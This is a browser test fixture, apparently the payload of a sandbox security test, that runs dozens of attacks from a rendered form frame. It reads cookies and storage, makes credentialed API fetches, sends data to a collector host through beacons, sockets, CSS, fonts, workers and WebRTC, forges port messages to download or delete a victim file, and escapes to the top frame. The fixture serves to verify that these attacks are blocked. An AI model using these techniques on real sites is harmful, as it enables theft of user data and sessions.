// What the hostile form of hostile.ts runs in the reader's browser. A plain script: it is put into the form as text.
// Each attack answers with what it got hold of, or throws; `window.hostile` holds the results for the test to read.
globalThis.attackEverything = (collector, apiPath, victimFileId) => {
  if (window.hostile) return
  const results = {}
  window.hostile = { results, finished: false, leave: {} }
  const { host } = new URL(collector)
  const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
  const add = (tag, properties, parent = document.head) =>
    parent.appendChild(Object.assign(document.createElement(tag), properties))
  const ends = (element) =>
    new Promise((resolve, reject) => {
      element.onload = () => resolve('loaded')
      element.onerror = () => reject(new Error('not loaded'))
    })

  const attacks = {
    cookie: () => document.cookie,
    parentCookie: () => window.parent.document.cookie,
    ownStorage: () => localStorage.getItem('hostile.prey'),
    parentStorage: () => window.parent.localStorage.getItem('hostile.prey'),
    sessionStorage: () => sessionStorage.getItem('hostile.prey'),
    indexedDb: () =>
      new Promise((resolve, reject) => {
        const opening = indexedDB.open('hostile')
        opening.onsuccess = () => resolve('opened')
        opening.onerror = () => reject(opening.error)
      }),
    caches: async () => ((await caches.open('hostile')) ? 'opened' : ''),
    fetchApi: async () => (await fetch(apiPath, { credentials: 'include' })).text(),
    xhrApi: () =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest()
        request.open('GET', apiPath)
        request.onload = () => resolve(request.responseText)
        request.onerror = () => reject(new Error('refused'))
        request.send()
      }),
    fetchForeign: async () => (await fetch(`${collector}/fetch`, { mode: 'no-cors' })).type,
    beacon: () => navigator.sendBeacon(`${collector}/beacon`, 'answers') && '',
    webSocket: () => ends(new WebSocket(`ws://${host}/websocket`)),
    eventSource: () => void new EventSource(`${collector}/eventsource`),
    image: () => ends(Object.assign(new Image(), { src: `${collector}/image` })),
    styleSheet: () => ends(add('link', { rel: 'stylesheet', href: `${collector}/stylesheet` })),
    cssImport: () => void add('style', { textContent: `@import url(${collector}/css-import);` }),
    cssImage: () => {
      add('style', {
        textContent: `.hostile-prey { background: url(${collector}/css-image); width: 1px; height: 1px }`,
      })
      add('div', { className: 'hostile-prey' }, document.body)
    },
    font: async () => (await new FontFace('hostile', `url(${collector}/font)`).load()).status,
    script: () => ends(add('script', { src: `${collector}/script` })),
    importModule: () => import(`${collector}/module`),
    prefetch: () => void add('link', { rel: 'prefetch', href: `${collector}/prefetch` }),
    preload: () => void add('link', { rel: 'preload', as: 'script', href: `${collector}/preload` }),
    modulePreload: () => void add('link', { rel: 'modulepreload', href: `${collector}/modulepreload` }),
    media: () => void add('video', { src: `${collector}/media`, autoplay: true, muted: true }, document.body),
    object: () => void add('object', { data: `${collector}/object` }, document.body),
    iframe: () => void add('iframe', { src: `${collector}/iframe` }, document.body),
    nestedFetch: async () => {
      const inner = add('iframe', {}, document.body)
      return (await inner.contentWindow.fetch(apiPath, { credentials: 'include' })).text()
    },
    sourceDocument: () => void add('iframe', { srcdoc: `<img src="${collector}/srcdoc">` }, document.body),
    worker: () =>
      new Promise((resolve, reject) => {
        const code = `fetch(${JSON.stringify(`${collector}/worker`)}, { mode: 'no-cors' }).then(() => postMessage('sent'))`
        const worker = new Worker(URL.createObjectURL(new Blob([code])))
        worker.onmessage = ({ data }) => resolve(data)
        worker.onerror = () => reject(new Error('refused'))
      }),
    serviceWorker: async () => (await navigator.serviceWorker.register('/app/frame-shim.js')).scope,
    formPost: () => {
      const target = add('iframe', { name: 'hostile-post' }, document.body)
      const form = add('form', { action: `${collector}/form-post`, method: 'post', target: target.name }, document.body)
      form.submit()
    },
    webRtc: async () => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] })
      connection.createDataChannel('hostile')
      await connection.setLocalDescription(await connection.createOffer())
    },
    nestedWebRtc: () => nestedFrame(),
    windowOpen: () => {
      const opened = window.open(`${collector}/window`)
      if (!opened) throw new Error('refused')
    },
    blankLink: () => add('a', { href: `${collector}/blank-link`, target: '_blank' }, document.body).click(),
    parentTitle: () => {
      window.parent.document.title = 'taken over'
      return window.parent.document.title
    },
  }

  /** A frame in the frame, with our own scripts but without what was loaded before them. */
  async function nestedFrame() {
    const main = [...document.scripts].find((script) => script.type === 'module' && script.src)?.src
    const code = `(${attacks.webRtc})`
    if (!main) {
      const inner = add('iframe', {}, document.body)
      return inner.contentWindow.eval(`const host = ${JSON.stringify(host)}; ${code}()`)
    }
    const inner = add(
      'iframe',
      { srcdoc: `<body><div id="root"></div><script type="module" src="${main}"></script>` },
      document.body,
    )
    await wait(300)
    const run = `const host = ${JSON.stringify(host)}; (async () => { ${attacks.webRtc.toString().replace(/^async \(\) => /, '')} })()`
    const components = [{ type: 'textfield', key: 'a', input: true, customDefaultValue: run }]
    const { port2 } = new MessageChannel()
    inner.contentWindow.postMessage({ mode: 'fill', definition: { components }, language: 'en', theme: 'light' }, '*', [
      port2,
    ])
  }

  /** What the page is asked for in the protocol's own words, over a port that the page gave to us. */
  function forge() {
    window.addEventListener('message', ({ ports: [port] }) => {
      if (!port) return
      results.forgedPort = 'refused: only messages'
      for (const type of ['download', 'remove'])
        port.postMessage({ type, requestId: 1, fileId: victimFileId, name: 'a.txt' })
      for (const type of ['submit', 'change', 'definition', 'height'])
        port.postMessage({ type, answers: { name: 'forged' }, definition: { components: [] }, px: 1e12 })
      port.postMessage({ type: 'upload', requestId: 2, file: new File(['x'], 'x.txt'), key: 'name' })
    })
    window.parent.postMessage('ready', '*')
  }
  window.hostile.forge = forge

  // These end the frame where they succeed, and some where they fail, so the test starts them, one after the other.
  Object.assign(window.hostile.leave, {
    openTop: () => void window.open(`${collector}/open-top`, '_top'),
    linkTop: () => add('a', { href: `${collector}/link-top`, target: '_top' }, document.body).click(),
    formTop: () => add('form', { action: `${collector}/form-top`, target: '_top' }, document.body).submit(),
    topLocation: () => window.top.location.assign(`${collector}/top-location`),
    formSelf: () => add('form', { action: `${collector}/form-self` }, document.body).submit(),
    refresh: () => add('meta', { httpEquiv: 'refresh', content: `0;url=${collector}/refresh` }),
    ownHost: () => location.assign(apiPath),
    location: () => location.assign(`${collector}/location?answers`),
  })

  const settled = Object.entries(attacks).map(async ([name, attack]) => {
    try {
      const got = await Promise.race([attack(), wait(2500)])
      results[name] = got ? `got: ${String(got).slice(0, 80)}` : 'tried'
    } catch (error) {
      results[name] = `refused: ${error}`.slice(0, 120)
    }
  })
  Promise.all(settled).then(() => {
    window.hostile.finished = true
  })
}
